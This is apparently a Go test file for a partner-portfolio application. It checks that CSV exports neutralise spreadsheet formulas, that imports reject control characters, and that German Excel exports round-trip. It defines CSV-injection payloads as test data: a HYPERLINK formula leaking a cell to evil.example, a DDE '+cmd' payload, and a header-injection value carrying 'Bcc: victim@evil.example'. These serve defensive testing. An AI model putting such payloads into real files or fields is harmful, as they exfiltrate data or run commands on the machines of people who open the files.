package app_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"pakt/internal/app"
	"pakt/internal/app/apptest"
	"pakt/internal/auth"
	"pakt/internal/csvio"
	"pakt/internal/csvio/csviotest"
	"pakt/internal/i18n"
	"pakt/internal/portfolio"
)

// The values a partner admin or a recruiter might type to attack staff who
// open an export in a spreadsheet.
const (
	evilName   = `=HYPERLINK("http://evil.example?"&A1,"x")`
	evilRegion = `+cmd|' /C calc'!A0`
)

// csvColumn returns the values of the named column of a CSV file.
func csvColumn(t *testing.T, file, name string) []string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("read %q: %v", file, err)
	}
	i := -1
	for j, h := range recs[0] {
		if h == name {
			i = j
		}
	}
	if i < 0 {
		t.Fatalf("no column %s in %q", name, recs[0])
	}
	var out []string
	for _, rec := range recs[1:] {
		out = append(out, rec[i])
	}
	return out
}

// assess records an assessment of org by manager (logged in as staff)
// with every active criterion scored score.
func assess(t *testing.T, s *apptest.Server, staff *apptest.Client, manager *auth.User, org string, score int, note string) {
	t.Helper()
	criteria, err := s.App.Portfolio.Criteria(context.Background(), manager.Actor())
	if err != nil {
		t.Fatal(err)
	}
	ratings := map[string]portfolio.RatingInput{}
	for _, c := range criteria {
		if c.Active {
			ratings[c.ID] = portfolio.RatingInput{Score: new(score)}
		}
	}
	if r := staff.JSON("POST", "/api/v1/partners/"+org+"/assessments", map[string]any{"ratings": ratings, "note": note}); r.Status != 201 {
		t.Fatalf("assess: %d %s", r.Status, r.Body)
	}
}

// Every export pakt writes — the portfolio download for staff and each
// export command — shows a partner's formula as text, and the imports read
// the values back as they were typed.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	apptest.Engines(t, func(t *testing.T, s *apptest.Server) {
		ctx := context.Background()
		org := s.Org("Harmlos GmbH")
		pa := s.Login(s.CreateUser(auth.RolePartnerAdmin, org).Email)
		if r := pa.JSON("PATCH", "/api/v1/partners/"+org, map[string]string{"legal_name": evilName, "region": evilRegion, "city": "@handle"}); r.Status != 200 {
			t.Fatalf("partner admin renames: %d %s", r.Status, r.Body)
		}
		manager := s.CreateUser(auth.RoleManager, "")
		staff := s.Login(manager.Email)
		assess(t, s, staff, manager, org, 3, "-5 % gegenüber Vorjahr")
		if r := staff.JSON("POST", "/api/v1/prospects", map[string]string{"legal_name": "@Interessent GmbH", "city": evilRegion, "next_step": "+49 30 1234567 anrufen"}); r.Status != 201 {
			t.Fatalf("create prospect: %d %s", r.Status, r.Body)
		}

		download := staff.Get("/portfolio/export.csv")
		if download.Status != 200 || !strings.HasPrefix(download.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("portfolio export: %d %s", download.Status, download.Body)
		}
		exports := map[string]string{"/portfolio/export.csv": download.Body}
		for _, what := range []string{"partners", "assessments", "prospects"} {
			code, out := apptest.CLI("export", what, "--database", s.Database)
			if code != 0 {
				t.Fatalf("export %s: %d %s", what, code, out)
			}
			exports["pakt export "+what] = out
		}
		for name, file := range exports {
			if bad := csviotest.FormulaCells(t, file); len(bad) > 0 {
				t.Errorf("%s has cells a spreadsheet runs as formulas: %q", name, bad)
			}
		}
		if got := csvColumn(t, download.Body, "Organisation"); len(got) != 1 || got[0] != "'"+evilName {
			t.Errorf("the portfolio export names the partner %q, want it as text", got)
		}

		// Each export imports back into a fresh database as the values that
		// were typed: exported again, it is the same file.
		dir := t.TempDir()
		var names []string
		for _, what := range []string{"partners", "prospects"} {
			fresh := filepath.Join(dir, what+".db")
			if code, out := apptest.CLI("migrate", "--database", fresh); code != 0 {
				t.Fatal(out)
			}
			if code, out := apptest.CLI("user", "create", "--role", "manager", "--email", manager.Email, "--name", "M", "--password", "long-enough-1", "--database", fresh); code != 0 {
				t.Fatal(out)
			}
			file := filepath.Join(dir, what+".csv")
			os.WriteFile(file, []byte(exports["pakt export "+what]), 0o644)
			if code, out := apptest.CLI("import", what, file, "--database", fresh); code != 0 {
				t.Fatalf("import %s: %d %s", what, code, out)
			}
			if _, again := apptest.CLI("export", what, "--database", fresh); again != exports["pakt export "+what] {
				t.Errorf("export → import → export of %s differs:\n%s\n---\n%s", what, exports["pakt export "+what], again)
			}
			a, err := app.Open(ctx, app.Config{Database: fresh})
			if err != nil {
				t.Fatal(err)
			}
			all, err := a.Partners.All(ctx, auth.System)
			a.Close()
			if err != nil {
				t.Fatal(err)
			}
			for _, o := range all {
				names = append(names, what+": "+o.LegalName+" / "+o.Region+" / "+o.City)
			}
		}
		for _, want := range []string{"partners: " + evilName + " / " + evilRegion + " / @handle", "prospects: @Interessent GmbH /  / " + evilRegion} {
			if !slices.Contains(names, want) {
				t.Errorf("after the imports the organisations are %q, want %q among them", names, want)
			}
		}

		file := filepath.Join(dir, "assessments.csv")
		os.WriteFile(file, []byte(exports["pakt export assessments"]), 0o644)
		if code, out := apptest.CLI("import", "assessments", file, "--database", s.Database); code != 0 {
			t.Fatalf("import assessments: %d %s", code, out)
		}
		history, err := s.App.Portfolio.History(ctx, manager.Actor(), org)
		if err != nil {
			t.Fatal(err)
		}
		for _, as := range history {
			if as.Note != "-5 % gegenüber Vorjahr" {
				t.Errorf("an assessment's note came back as %q", as.Note)
			}
		}
		if len(history) != 2 {
			t.Errorf("%d assessments after importing the export, want 2", len(history))
		}
	})
}

// The prospects and assessments imports name the row and column of a
// control character, and import nothing.
func TestImportsRefuseControlCharacters(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	db := filepath.Join(dir, "pakt.db")
	if code, out := apptest.CLI("migrate", "--database", db); code != 0 {
		t.Fatal(out)
	}
	for _, tc := range []struct{ what, file, want string }{
		{"prospects", "legal_name,city,next_step\n\"Neu GmbH\nBcc: victim@evil.example\",Köln,\nZwei GmbH,Bo\x00nn,\nDrei GmbH,,\"Anrufen\u2028morgen\"\n",
			"row 2, column legal_name: Must not contain control characters or line breaks.\n" +
				"row 3, column city: Must not contain control characters or line breaks.\n" +
				"row 4, column next_step: Must not contain control characters or line breaks.\n"},
		{"assessments", "org_id,legal_name,note\n,\"Evil\x00 GmbH\",\n\"a\u0085b\",,\n",
			"row 2, column legal_name: Must not contain control characters or line breaks.\n" +
				"row 3, column org_id: Must not contain control characters or line breaks.\n"},
	} {
		file := filepath.Join(dir, tc.what+".csv")
		os.WriteFile(file, []byte(tc.file), 0o644)
		code, out := apptest.CLI("import", tc.what, file, "--database", db)
		if code != 1 || !strings.HasPrefix(out, tc.want) || !strings.Contains(out, "nothing was imported") {
			t.Errorf("import %s: exit %d\n%s\nwant it to start\n%s", tc.what, code, out, tc.want)
		}
	}
	if _, out := apptest.CLI("export", "prospects", "--database", db); strings.Count(out, "\n") != 1 {
		t.Errorf("prospects after refused imports:\n%s", out)
	}
}

// The portfolio download is a file for people: in German it opens in
// German Excel (byte order mark, semicolons, decimal commas) with German
// headers and values, in English as comma-separated UTF-8; it names the
// partner manager instead of giving an id, and lists the partners in the
// alphabetical order of the language.
func TestPortfolioDownloadForPeople(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t)
	manager := s.CreateUser(auth.RoleManager, "")
	staff := s.Login(manager.Email)
	for i, name := range []string{"Zeta Systemhaus GmbH", "Ärzte-IT AG", "Beta „Cloud“ KG"} {
		org := s.Org(name)
		if r := staff.JSON("PATCH", "/api/v1/partners/"+org, map[string]any{"tier": "gold", "status": "active", "manager_id": manager.ID, "region": "Bayern"}); r.Status != 200 {
			t.Fatalf("set the manager: %d %s", r.Status, r.Body)
		}
		assess(t, s, staff, manager, org, 3+i%2, "")
	}
	today := time.Now().UTC().Format(time.DateOnly)
	for lang, want := range map[string][]string{
		"de": {"\uFEFFOrganisation;Partnerstufe;Region / Bundesland;Status;Partnermanager;Bewertet am;KANN;WILL;Quadrant\r\n",
			"Ärzte-IT AG;Gold;Bayern;Aktiv;" + manager.Name + ";" + today + ";",
			"\r\nBeta „Cloud“ KG;", "\r\nZeta Systemhaus GmbH;"},
		"en": {"Organisation,Tier,Region / state,Status,Partner manager,Assessed on,CAN,WILL,Quadrant\n",
			"Ärzte-IT AG,Gold,Bayern,Active," + manager.Name + "," + today + ",",
			"\nBeta „Cloud“ KG,", "\nZeta Systemhaus GmbH,"},
	} {
		staff.Lang = lang
		if r := staff.Form("POST", "/lang", url.Values{"lang": {lang}, "next": {"/"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("switch to %s: %d", lang, r.Status)
		}
		r := staff.Get("/portfolio/export.csv")
		if r.Status != 200 || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.Contains(r.Header.Get("Content-Disposition"), "portfolio-"+today+".csv") {
			t.Fatalf("%s: %d %q %q", lang, r.Status, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"))
		}
		apptest.InOrder(t, r.Body, want...)
		if strings.Contains(r.Body, manager.ID) {
			t.Errorf("%s: the file holds the manager's id:\n%s", lang, r.Body)
		}
		f, errs, err := csvio.Read(strings.NewReader(r.Body))
		if err != nil || len(errs) > 0 || len(f.Records) != 3 || len(f.Header) != 9 {
			t.Fatalf("%s: read back: %v %v %+v", lang, errs, err, f)
		}
		for _, rec := range f.Records {
			if q := rec.Cells[8]; q != i18n.T(lang, "quadrant.hero") && q != i18n.T(lang, "quadrant.candidate") && q != i18n.T(lang, "quadrant.vampire") && q != i18n.T(lang, "quadrant.shadow") {
				t.Errorf("%s: quadrant %q, want its name in the language", lang, q)
			}
		}
		points := f.Records[0].Cells[6]
		if dec := map[string]string{"de": ",", "en": "."}[lang]; !strings.Contains(points, dec) && !regexp.MustCompile(`^[0-9]+$`).MatchString(points) {
			t.Errorf("%s: CAN %q, want a number with %q", lang, points, dec)
		}
	}
}

// An export written for German Excel (--excel: byte order mark, semicolons,
// Windows line ends) imports back as the values that were typed, umlauts,
// typographic quotes and semicolons included: exported again, it is the
// same file.
func TestExcelExportsImportBack(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t)
	ctx := context.Background()
	manager := s.CreateUser(auth.RoleManager, "")
	staff := s.Login(manager.Email)
	org := s.Org("Müller „Cloud“ GmbH")
	if r := staff.JSON("PATCH", "/api/v1/partners/"+org, map[string]any{"region": "Baden-Württemberg; Süd", "city": "Köln", "manager_id": manager.ID}); r.Status != 200 {
		t.Fatalf("update: %d %s", r.Status, r.Body)
	}
	const note = "Umsatz -5 % – „gut“; nächstes Jahr mehr"
	assess(t, s, staff, manager, org, 4, note)
	if r := staff.JSON("POST", "/api/v1/prospects", map[string]string{"legal_name": "Größer & Söhne; Technik GmbH", "city": "München", "next_step": "Angebot – bis Freitag"}); r.Status != 201 {
		t.Fatalf("create prospect: %d %s", r.Status, r.Body)
	}

	dir := t.TempDir()
	for _, what := range []string{"partners", "prospects", "assessments"} {
		code, excel := apptest.CLI("export", what, "--excel", "--database", s.Database)
		header, _, _ := strings.Cut(excel, "\n")
		if code != 0 || !strings.HasPrefix(excel, "\uFEFF") || !strings.HasSuffix(header, "\r") || strings.Count(header, ";") < 3 || strings.Contains(header, ",") {
			t.Fatalf("export %s --excel: %d %q", what, code, excel)
		}
		_, plain := apptest.CLI("export", what, "--database", s.Database)
		if plain == excel || strings.HasPrefix(plain, "\uFEFF") {
			t.Fatalf("the plain export of %s is the Excel one:\n%s", what, plain)
		}
		file := filepath.Join(dir, what+".csv")
		os.WriteFile(file, []byte(excel), 0o644)
		if what == "assessments" {
			if code, out := apptest.CLI("import", what, file, "--database", s.Database); code != 0 {
				t.Fatalf("import %s: %d %s", what, code, out)
			}
			history, err := s.App.Portfolio.History(ctx, manager.Actor(), org)
			if err != nil || len(history) != 2 || history[0].Note != note || history[1].Note != note {
				t.Errorf("after importing the Excel file: %d assessments (%v)", len(history), err)
			}
			continue
		}
		fresh := filepath.Join(dir, what+".db")
		if code, out := apptest.CLI("migrate", "--database", fresh); code != 0 {
			t.Fatal(out)
		}
		if code, out := apptest.CLI("user", "create", "--role", "manager", "--email", manager.Email, "--name", "M", "--password", "long-enough-1", "--database", fresh); code != 0 {
			t.Fatal(out)
		}
		if code, out := apptest.CLI("import", what, file, "--database", fresh); code != 0 {
			t.Fatalf("import %s: %d %s", what, code, out)
		}
		if _, again := apptest.CLI("export", what, "--excel", "--database", fresh); again != excel {
			t.Errorf("Excel export → import → export of %s differs:\n%s\n---\n%s", what, excel, again)
		}
		if _, again := apptest.CLI("export", what, "--database", fresh); again != plain {
			t.Errorf("after importing the Excel file, the plain export of %s differs:\n%s\n---\n%s", what, plain, again)
		}
	}
}
